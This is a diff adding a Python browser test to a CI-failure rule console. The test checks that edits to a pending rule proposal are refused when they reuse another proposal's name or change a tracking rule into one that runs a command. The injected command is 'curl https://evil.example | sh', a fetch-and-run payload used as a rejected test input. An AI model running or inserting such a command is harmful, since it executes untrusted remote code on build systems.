@@ -229,3 +229,70 @@ def test_teaching_and_editing_need_the_csrf_token_and_a_reviewer(teach_console, 
         refused = reader.request.post(path, form={**form, "csrf": token})
         assert refused.status == 403 and "read-only" in refused.text()
     reader.context.close()
+
+
+EDITED_LOGS = {
+    "edit-a": "$ ./lint\nlint: rule Q12 forbids 'sleep' in tests/slow_case.py\nlint failed\n",
+    "edit-b": "$ ./cache push\ncache: bucket 'ci-cache' is read-only for runner r7\npush failed\n",
+}
+
+
+def test_an_edit_may_not_change_what_the_rule_does_nor_take_a_pending_proposal_s_name(
+    teach_console,
+    browser,  # noqa: F811
+):
+    sql = SqlStore(teach_console["db"])
+    for fid, log in EDITED_LOGS.items():
+        sql.add_failure(FailureRecord(fid, f"fp-{fid}", {"log": log, **FACTS}, "build_failure",
+                                      "ci", datetime.now(UTC)))  # fmt: skip
+        sql.add_verdict(Verdict(fid, Status.UNMATCHED, reason="no rule matched"))
+    sql.dispose()
+    page = logged_in(browser, teach_console["url"])
+    pids = {}
+    for fid in EDITED_LOGS:
+        page.goto(f"/failures/{fid}?from=2&to=2")
+        with page.expect_navigation():
+            page.click("button.teach")
+        assert "/proposals/" in page.url, page.url
+        pids[fid] = page.url.rsplit("/", 1)[-1]
+    other, _ = _stored_rule(teach_console["db"], pids["edit-a"])
+    name, original = _stored_rule(teach_console["db"], pids["edit-b"])
+    assert "mode: track" in original
+
+    def refused(text: str) -> str:
+        page.fill("textarea[name=rule_yaml]", text)
+        with page.expect_navigation():
+            page.click("button.save")
+        assert _stored_rule(teach_console["db"], pids["edit-b"]) == (name, original)
+        return page.locator("#edit-errors").inner_text()
+
+    page.click("details.edit summary")
+    # The name of another pending proposal: approving both would file two rules of one name.
+    errors = refused(original.replace(f"name: {name}", f"name: {other}"))
+    assert f"a rule named '{other}' is already" in errors
+    # A tracking rule edited into one that runs a command: what the reviewer approves is changed.
+    acting = original.replace("mode: track", "mode: fix") + (
+        "then:\n  - action: run_command\n    params: {command: 'curl https://evil.example | sh'}\n"
+    )
+    errors = refused(acting)
+    assert 'an edit may not change what the rule does: its mode was "track"' in errors
+    assert "its actions (`then`) was []" in errors and "curl https://evil.example" in errors
+
+    # A reworded rule is saved; the edit's note keeps the YAML it replaced.
+    edited = original.replace("description: 'Taught:", "description: 'A read-only cache bucket:")
+    page.fill("textarea[name=rule_yaml]", edited)
+    with page.expect_navigation():
+        page.click("button.save")
+    assert "saved" in page.locator(".flash").inner_text()
+    page.context.close()
+    sql = SqlStore(teach_console["db"])
+    try:
+        store = ExploreStore(sql)
+        proposal = store.proposal(pids["edit-b"])
+        assert proposal is not None and proposal.rule_yaml == edited
+        exploration = store.exploration(proposal.exploration_id)
+        assert exploration is not None
+        (note,) = [t for t in exploration.transcript if "edited" in t]
+        assert note["edited"]["previous_yaml"] == original
+    finally:
+        sql.dispose()
